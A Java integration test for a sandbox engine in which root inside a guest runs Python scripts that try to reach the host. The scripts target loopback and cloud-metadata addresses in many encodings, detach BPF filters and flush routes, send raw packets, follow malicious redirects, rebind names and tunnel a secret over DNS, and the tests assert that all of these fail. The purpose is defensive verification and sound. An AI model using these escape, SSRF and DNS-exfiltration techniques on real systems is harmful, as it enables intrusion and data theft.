package dev.belljar.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.belljar.ChildProcess;
import dev.belljar.EgressRecord.Verdict;
import dev.belljar.Sandbox;
import dev.belljar.SandboxOptions;
import java.io.IOException;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** The guest's root looks for a way to this host, its networks and its other guests. */
@Timeout(180)
class GuestNetworkAttackIT {
  /** Says which of the addresses answered anything to TCP, tried in three ways, or to UDP. */
  private static final String TRY_ALL =
      """
      def attempt(family, kind, address, port, trick):
          s = socket.socket(family, kind)
          s.settimeout(0.5)
          try:
              if trick == 1: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\\0")
              if trick == 2: s.setsockopt(socket.SOL_SOCKET, 36, 1)  # SO_MARK
              if kind == socket.SOCK_STREAM:
                  s.connect((address, port))
                  return s.recv(100)
              s.settimeout(0.05)
              s.sendto(b"x", (address, port))
              return s.recv(100)
          except OSError:
              return b""
          finally:
              s.close()

      port = int(sys.argv[1])
      for address in sys.argv[2:]:
          family = socket.AF_INET6 if ":" in address else socket.AF_INET
          for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
              for trick in range(3):
                  if attempt(family, kind, address, port, trick):
                      print(address, kind, trick)
      """;

  private static HostTrap trap;
  private static LoopbackServer server;
  private static Sandbox open;

  @BeforeAll
  static void create() throws IOException {
    trap = new HostTrap();
    server = LoopbackServer.plain();
    open = Sandbox.create();
  }

  @AfterAll
  static void close() throws IOException {
    open.close();
    server.close();
    trap.close();
  }

  @AfterEach
  void nothingOfThisHostWasReached() throws Exception {
    assertThat(trap.reached()).isZero();
    assertThat(open.egress()).noneMatch(r -> r.verdict() == Verdict.ALLOWED);
  }

  /**
   * Loopback, this host's own, private, metadata, in each of their forms; the trap's port first.
   */
  private static Object[] targets() throws IOException {
    List<String> own =
        NetworkInterface.networkInterfaces()
            .flatMap(NetworkInterface::inetAddresses)
            .map(InetAddress::getHostAddress)
            .map(text -> text.replaceFirst("%.*", ""))
            .toList();
    List<String> all =
        new java.util.ArrayList<>(
            List.of(
                "127.0.0.1",
                "127.1.2.3",
                "127.255.255.254",
                "0.0.0.0",
                "::",
                "::1",
                "::ffff:127.0.0.1",
                "::7f00:1",
                "64:ff9b::7f00:1",
                "64:ff9b::a9fe:a9fe",
                "2002:7f00:1::",
                "2002:a9fe:a9fe::",
                "::ffff:169.254.169.254",
                "169.254.169.254",
                "fd00:ec2::254",
                "100.100.100.200",
                "10.0.2.2",
                "172.17.0.1",
                "192.168.0.1",
                "198.18.0.200",
                "198.19.255.1",
                "224.0.0.1",
                "255.255.255.255",
                "fd00::1",
                "fe80::1",
                "ff02::1"));
    all.addAll(own);
    all.addFirst(Integer.toString(trap.port()));
    return all.toArray();
  }

  @Test
  void noAddressLeadsToThisHostOrItsNetworks() throws IOException {
    assertThat(GuestRoot.python(open, TRY_ALL, targets())).isEmpty();
  }

  @Test
  void withoutItsRoutesItsAddressesAndTheInterceptionAGuestReachesNoMore() throws IOException {
    try (Sandbox own = Sandbox.create()) {
      String undo =
          """
          link = of_agent("bpf_link")
          BPF, LINK_DETACH = 321, 34
          attribute = ctypes.create_string_buffer(struct.pack("I", link), 128)
          print(libc.syscall(BPF, LINK_DETACH, attribute, 128))
          for command in ("ip addr del 198.19.255.1/32 dev lo", "ip route flush table local",
                  "ip -6 route flush table local", "ip link add out type dummy", "ip link set out up",
                  "ip addr add 10.9.8.7/8 dev out", "ip route add default dev out",
                  "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.route_localnet=1"):
              subprocess.run(command.split(), stderr=subprocess.DEVNULL)
          """;
      assertThat(GuestRoot.python(own, undo)).isEqualTo("0\n");
      assertThat(GuestRoot.python(own, TRY_ALL, targets())).isEmpty();
      assertThat(own.egress()).noneMatch(r -> r.verdict() == Verdict.ALLOWED);
    }
  }

  @Test
  void rawSocketsAndPingsGoNowhere() {
    String script =
        """
        port = int(sys.argv[1])
        answers = 0
        icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        ip = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)
        link.bind(("lo", 0))
        for to in ("127.0.0.1", "10.0.2.2", "169.254.169.254", "8.8.8.8"):
            syn = struct.pack(">HHIIBBHHH", 40000, port, 1, 0, 0x50, 2, 1024, 0, 0)
            head = struct.pack(">BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) \\
                + socket.inet_aton("198.19.255.1") + socket.inet_aton(to)
            ip.sendto(head + syn, (to, 0))
            link.send(b"\\xff" * 12 + b"\\x08\\x00" + head + syn)
            icmp.sendto(b"\\x08\\x00\\xf7\\xfe\\x00\\x01\\x00\\x00", (to, 0))
        print(sorted(os.listdir("/sys/class/net")))
        """;
    assertThat(GuestRoot.python(open, script, trap.port()).strip()).isEqualTo("['lo']");
  }

  @Test
  void theAgentsOwnPortsAndTheChannelsDeviceGiveNothing() {
    String script =
        """
        tcp = [line.split() for line in open("/proc/net/tcp").readlines()[1:]]
        ports = [int(f[1].split(":")[1], 16) for f in tcp if f[3] == "0A" and f[1].startswith("0100007F")]
        got = b""
        for port in ports:
            if port == 53: continue
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=3)
                s.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n")
                got += s.recv(100)
            except OSError:
                pass
        busy = 0
        for device in glob.glob("/dev/vport*"):
            try:
                os.open(device, os.O_RDWR)
            except OSError as e:
                busy += e.errno == errno.EBUSY
        print(len(ports) > 1, got, busy)
        """;
    assertThat(GuestRoot.python(open, script).strip()).isEqualTo("True b'' 1");
  }

  @Test
  void whoSpeaksInTheAgentsPlaceIsHeldToThePolicyAsWell() throws IOException {
    String host = InetAddress.getLocalHost().getHostName();
    String script =
        """
        port, names = int(sys.argv[1]), ["localhost", "127.0.0.1", "2130706433", "0x7f000001", "127.1", "0",
            "metadata.google.internal", "localhost.localdomain", "private.names.test", "metadata.names.test",
            "loopback.names.test", "six.names.test", "mapped.names.test"] + ([sys.argv[2]] if "." not in sys.argv[2] else [])
        channel = of_agent("vport")
        id = 0x90000000
        for payload in [by_name(n.lower(), port) for n in names] + [by_address(a, port) for a in sys.argv[3:]]:
            id += 1
            os.write(channel, frame(5, id, payload))
        """;
    try (Sandbox own = Sandbox.create()) {
      Object[] targets = targets();
      Object[] arguments = new Object[targets.length + 1];
      arguments[0] = targets[0];
      arguments[1] = host;
      System.arraycopy(targets, 1, arguments, 2, targets.length - 1);
      GuestRoot.python(own, script, arguments);
      await().until(() -> own.egress().size() >= targets.length + 11);
      assertThat(own.egress())
          .allMatch(r -> r.verdict() == Verdict.DENIED || r.verdict() == Verdict.FAILED);
      assertThat(own.sh("echo fine").text()).isEqualTo("fine\n");
    }
  }

  @Test
  void anAddressInANamesPlaceIsNotRedirected() {
    try (Sandbox own =
        Sandbox.create(
            SandboxOptions.builder().connectTo("10.9.9.9:80:127.0.0.1:" + trap.port()).build())) {
      GuestRoot.python(
          own, "os.write(of_agent('vport'), frame(5, 0x90000001, by_name('10.9.9.9', 80)))");
      await().until(() -> !own.egress().isEmpty());
      assertThat(own.egress()).allMatch(r -> r.verdict() == Verdict.DENIED);
    }
  }

  @Test
  void namesThatLeadToPrivateAddressesAreRefusedAndAskedForOnceForEachConnection() {
    for (String label : List.of("private", "metadata", "loopback", "six", "mapped", "rebinding")) {
      String name = label + TestNames.BELOW;
      long before = TestNames.asked(name);
      assertThat(curl(open, "http://" + name + ":" + trap.port() + "/")).as(name).isEmpty();
      await()
          .untilAsserted(
              () ->
                  assertThat(open.egress())
                      .anyMatch(r -> r.host().equals(name) && r.verdict() == Verdict.DENIED));
      assertThat(TestNames.asked(name) - before)
          .as("for each kind of address once at most, and where it was answered for the connection")
          .isBetween(1L, label.equals("rebinding") ? 3L : 2L);
    }
  }

  @Test
  void anAllowedServerCannotRedirectAnywhereElse() throws IOException {
    try (var redirecting = new ScriptedServer(null);
        Sandbox listed =
            Sandbox.create(
                SandboxOptions.builder()
                    .allowNet("api.example.com", "private.names.test", "loopback.names.test")
                    .connectTo("api.example.com:80:127.0.0.1:" + redirecting.port())
                    .build())) {
      for (String to :
          List.of(
              "127.0.0.1",
              "169.254.169.254",
              "10.0.0.1",
              "[::1]",
              "[::ffff:127.0.0.1]",
              "loopback.names.test",
              "private.names.test",
              "other.example.com")) {
        String location = "http://" + to + ":" + trap.port() + "/";
        redirecting.answers(
            request ->
                "HTTP/1.1 302 Found\r\nLocation: "
                    + location
                    + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        assertThat(curl(listed, "http://api.example.com/")).as(to).isEmpty();
      }
    }
  }

  @Test
  void anotherSandboxIsNowhereToBeFound() throws IOException {
    try (Sandbox other = Sandbox.create()) {
      try (ChildProcess web = other.spawn("python3", "-m", "http.server", "8000")) {
        await().until(() -> !curl(other, "http://198.19.255.1:8000/").isEmpty());
        for (String at : List.of("198.19.255.1", "127.0.0.1", "[::1]", "198.19.255.2")) {
          assertThat(curl(open, "http://" + at + ":8000/")).as(at).isEmpty();
        }
        String name = other.sh("hostname").text().strip();
        assertThat(curl(open, "http://" + name + ":8000/")).isEmpty();
        web.kill();
      }
    }
  }

  @Test
  void behindAnAllowListNoNameOutsideItReachesThisHostsResolver() {
    String script =
        """
        def query(name, kind):
            labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
            return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)

        answers, records = 0, 0
        secret = "x" * 63 + "." + "y" * 63 + "." + "z" * 60 + ".tunnel.example"
        kinds = (1, 5, 10, 12, 15, 16, 28, 33, 64, 65, 255)  # A CNAME NULL PTR MX TXT AAAA SRV SVCB HTTPS ANY
        for server in ("127.0.0.1", "8.8.8.8"):
            for kind in kinds:
                for name in (secret, "allowed.example." + secret[-100:], "allowed.example"):
                    for stream in (False, True):
                        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
                        s.settimeout(5)
                        try:
                            s.connect((server, 53))
                            q = query(name, kind)
                            s.sendall(struct.pack(">H", len(q)) + q if stream else q)
                            answer = s.recv(2000)[2 if stream else 0:]
                            answers += 1
                            if struct.unpack(">H", answer[6:8])[0] and (name, kind) != ("allowed.example", 1): records += 1
                        except OSError:
                            pass
                        s.close()
        print(answers > 60, records)
        """;
    try (Sandbox listed =
        Sandbox.create(SandboxOptions.builder().allowNet("allowed.example").build())) {
      assertThat(GuestRoot.python(listed, script).strip()).isEqualTo("True 0");
      // And past the agent.
      GuestRoot.python(
          listed,
          """
          channel = of_agent("vport")
          for i in range(20):
              name = "past%d.tunnel.example" % i
              os.write(channel, frame(5, 0x90000000 + i, b"\\x02" + struct.pack(">I", len(name)) + name.encode()))
              os.write(channel, frame(5, 0x90001000 + i, by_name(name, 53)))
          """);
      await().until(() -> listed.egress().stream().anyMatch(r -> r.host().startsWith("past19.")));
      Map<Verdict, Long> verdicts =
          listed.egress().stream()
              .collect(Collectors.groupingBy(r -> r.verdict(), Collectors.counting()));
      assertThat(verdicts).containsOnlyKeys(Verdict.DENIED);
    }
    assertThat(TestNames.asked("tunnel.example")).isZero();
    assertThat(TestNames.asked("allowed.example")).isZero();
  }

  private static String curl(Sandbox from, String url) {
    return from.sh("curl -sL --max-time 5 -g '" + url + "'").noThrow().output().stdoutText();
  }
}
